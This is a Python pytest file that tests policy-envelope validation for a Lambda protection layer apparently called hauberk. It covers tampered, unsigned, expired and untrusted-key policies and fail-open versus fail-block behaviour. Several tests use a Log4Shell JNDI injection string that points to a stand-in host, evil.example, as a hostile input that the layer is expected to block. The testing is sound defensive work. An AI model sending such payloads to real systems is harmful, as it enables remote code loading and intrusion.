"""A policy that cannot be used: it says so, and the function runs, or is refused where `block` asks."""

import shutil
import time
import zlib
from datetime import date, timedelta

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from protected import KEY, policy

from hauberk.policy.envelope import encoded, seal
from hauberk.policy.signing import fingerprint, public_bytes

CODE = "def handler(event, context): return 'ran'"
HTTP = {"requestContext": {"http": {"method": "GET"}}}
OTHER_KEY = Ed25519PrivateKey.generate()


def part(number, change):
    """The good variable with one of its five parts changed."""

    def variable(on_error):
        parts = policy(on_error=on_error).split(".")
        parts[number] = change(parts[number])
        return ".".join(parts)

    return variable


def flipped(text):
    """One character in the middle is another one of the same alphabet."""
    middle = len(text) // 2
    return text[:middle] + ("a" if text[middle] != "a" else "b") + text[middle + 1 :]


def unsigned(on_error):
    return policy(on_error=on_error).rsplit(".", 1)[0]


def of_another(on_error):
    return policy(on_error=on_error, function="payments")


def in_another_region(on_error):
    arn = "arn:aws:lambda:eu-west-1:123456789012:function:function"
    return sealed(on_error, function=arn)


def sealed(on_error, **changes):
    """A well-signed variable around a document of the test's own."""
    document = {
        "hauberk": 1,
        "function": "function",
        "serial": 1,
        "key": encoded(public_bytes(KEY.public_key())),
        "mode": "prevent",
        "on_error": on_error,
        **changes,
    }
    return seal({name: value for name, value in document.items() if value != ""}, on_error, KEY)


def signed(payload):
    """A well-signed variable around any bytes."""

    def variable(on_error):
        mark = fingerprint(public_bytes(KEY.public_key()))
        text = f"1.{on_error}.{mark}.{encoded(payload)}"
        return f"{text}.{encoded(KEY.sign(text.encode()))}"

    return variable


def deflated(data):
    compress = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compress.compress(data) + compress.flush()


REFUSED = [
    # name               variable                                     what the record says
    ("no-policy", lambda on_error: f"1.{on_error}.", "unreadable: 3 parts"),
    ("text", lambda on_error: f"1.{on_error}.a.b.c.d.e", "unreadable: 7 parts"),
    ("unsigned", unsigned, "not signed"),
    ("version", part(0, lambda _: "2"), "unknown form 2."),
    ("on-error", part(1, lambda _: "maybe"), "unknown form 1.maybe"),
    ("fingerprint", part(2, flipped), "as its envelope says"),
    (
        "payload",
        part(3, flipped),
        "unreadable|as its envelope says|changed after it was signed|not a compiled policy|names no key"
        "|not 32 bytes",
    ),
    ("payload-cut", part(3, lambda text: text[: len(text) // 2]), "unreadable"),
    ("payload-empty", part(3, lambda _: ""), "unreadable"),
    ("payload-alphabet", part(3, lambda text: "+/" + text[2:]), "unreadable"),
    ("signature", part(4, flipped), "changed after it was signed"),
    ("signature-empty", part(4, lambda _: ""), "changed after it was signed"),
    ("no-deflate", signed(b"\xff" * 40), "unreadable"),
    ("no-json", signed(deflated(b"no json")), "names no key"),
    ("no-key", lambda on_error: sealed(on_error, key=""), "names no key"),
    ("short-key", lambda on_error: sealed(on_error, key="AAAA"), "not 32 bytes"),
    ("bomb", signed(deflated(b" " * (9 << 20))), "unreadable"),
    ("newer", lambda on_error: sealed(on_error, hauberk=2), "version 2"),
    ("unknown-field", lambda on_error: sealed(on_error, colour="red"), "colour"),
    ("unknown-kind", lambda on_error: sealed(on_error, allowlist={"memory": []}), "memory"),
    ("unknown-mode", lambda on_error: sealed(on_error, mode="strict"), "strict"),
    ("bad-address", lambda on_error: sealed(on_error, allowlist={"address": ["* 1.2.3"]}), "1.2.3"),
    ("other-function", of_another, "is for payments, this function is function"),
    ("other-region", in_another_region, "is for arn:aws:lambda:eu-west-1"),
]
IDS = [name for name, *_ in REFUSED]


@pytest.mark.parametrize(("name", "variable", "said"), REFUSED, ids=IDS)
def test_a_policy_that_cannot_be_used_is_told_and_the_function_runs(start, name, variable, said):
    running = start(CODE, {"HAUBERK_POLICY": variable("open"), "HAUBERK_MODE": "prevent"})
    first = running.invoke({})
    assert first.value == "ran"
    (status,) = first.statuses
    assert (status["state"], status["level"]) == ("refused", "FATAL")
    assert status["policy"]["state"] == "refused"
    assert status["mode"] == "prevent", "the built-in policy has HAUBERK_MODE"
    assert "the built-in policy is in force" in status["message"]
    assert any(one in status["message"] for one in said.split("|")), status["message"]
    assert not running.invoke({}).records


SAYS_BLOCK = [row for row in REFUSED if row[0] not in ("version", "on-error")]


@pytest.mark.parametrize(
    ("name", "variable", "said"), SAYS_BLOCK, ids=[name for name, *_ in SAYS_BLOCK]
)
def test_where_block_is_asked_for_every_invocation_is_refused(start, name, variable, said):
    running = start(CODE, {"HAUBERK_POLICY": variable("block"), "HAUBERK_MODE": "detect"})
    for event in ({}, HTTP, {}, HTTP):
        seen = running.invoke(event)
        if event:
            assert seen.value["statusCode"] == 403
        else:
            assert seen.error == "Blocked"
        assert [one["state"] for one in seen.statuses][-1:] == ["refused"]


def test_the_built_in_policy_protects_where_the_refused_one_is_not_used(start):
    running = start(CODE, {"HAUBERK_POLICY": unsigned("open"), "HAUBERK_MODE": "prevent"})
    assert running.invoke({"q": "${jndi:ldap://evil.example/a}"}).error == "Blocked"


def test_on_error_that_was_changed_from_block_to_open_is_told(start):
    """Who may set the variable may also unset it: the record is what remains."""
    variable = policy(on_error="block").replace("1.block.", "1.open.")
    seen = start(CODE, {"HAUBERK_POLICY": variable}).invoke({})
    assert seen.value == "ran"
    assert "changed after it was signed" in seen.statuses[0]["message"]


def expired(on_error):
    return policy(on_error=on_error, expires=date.today() - timedelta(days=2), mode="prevent")


def test_an_expired_policy_stays_in_force_and_says_so(start):
    running = start(CODE, {"HAUBERK_POLICY": expired("open")})
    seen = running.invoke({})
    assert seen.value == "ran"
    (status,) = seen.statuses
    assert status["policy"]["state"] == "stale"
    assert "has expired and stays in force" in status["message"]
    assert running.invoke({"q": "${jndi:ldap://evil.example/a}"}).error == "Blocked"


def test_an_expired_policy_that_blocks_on_error_refuses(start):
    assert start(CODE, {"HAUBERK_POLICY": expired("block")}).invoke({}).error == "Blocked"


def test_a_policy_that_will_expire_is_just_in_force(start):
    variable = policy(expires=date.today() + timedelta(days=2))
    (status,) = start(CODE, {"HAUBERK_POLICY": variable}).invoke({}).statuses
    assert (status["state"], status["policy"]["state"]) == ("armed", "signed")
    assert status["policy"]["fingerprint"] == fingerprint(public_bytes(KEY.public_key()))


@pytest.mark.parametrize("is_over", [False, True], ids=["in force", "over"])
def test_an_exclusion_is_left_out_once_its_time_is_over(start, is_over):
    expires = int(time.time()) + (-3_600 if is_over else 3_600)
    exclusion = {"name": "e", "detector": "log4shell", "patterns": ["**"], "expires": expires}
    running = start(CODE, {"HAUBERK_POLICY": sealed("open", exclusions=[exclusion])})
    seen = running.invoke({"q": "${jndi:ldap://evil.example/a}"})
    assert (seen.payload == b'"ran"') == (not is_over)


TRUST = [
    # the trusted-keys file                                            is our key used?
    ([OTHER_KEY], False),
    ([KEY], True),
    ([OTHER_KEY, KEY], True),
]


@pytest.mark.parametrize(("keys", "is_used"), TRUST, ids=["other", "own", "both"])
@pytest.mark.parametrize("on_error", ["open", "block"])
def test_where_keys_are_trusted_no_other_key_counts(
    start, layer, tmp_path, keys, is_used, on_error
):
    own = shutil.copytree(layer, tmp_path / "layer")
    marks = [fingerprint(public_bytes(key.public_key())) for key in keys]
    (own / "hauberk" / "trusted-keys").write_text("\n".join(marks) + "\n")
    seen = start(CODE, {"HAUBERK_POLICY": policy(on_error=on_error)}, own_layer=own).invoke({})
    assert seen.statuses[0]["policy"]["state"] == ("signed" if is_used else "refused")
    assert (seen.answer.error is None) == (is_used or on_error == "open")
    if not is_used:
        assert "a key that this layer does not trust" in seen.statuses[0]["message"]


def test_a_mode_that_is_none_is_told_and_detect_is_in_force(start):
    running = start(CODE, {"HAUBERK_MODE": "PREVENT"})
    (status,) = running.invoke({}).statuses
    assert (status["state"], status["mode"]) == ("refused", "detect")
    assert 'HAUBERK_MODE is "PREVENT", not off, detect or prevent' in status["message"]
    assert running.invoke({"q": "${jndi:ldap://evil.example/a}"}).value == "ran"


@pytest.mark.parametrize(
    "settings",
    [{"HAUBERK_MODE": "off"}, {"HAUBERK_POLICY": policy(mode="off")}],
    ids=["built-in", "signed"],
)
def test_off_says_nothing_and_does_nothing(start, settings):
    running = start(CODE, settings)
    seen = running.invoke({"q": "${jndi:ldap://evil.example/a}"})
    assert (seen.value, seen.records) == ("ran", [])
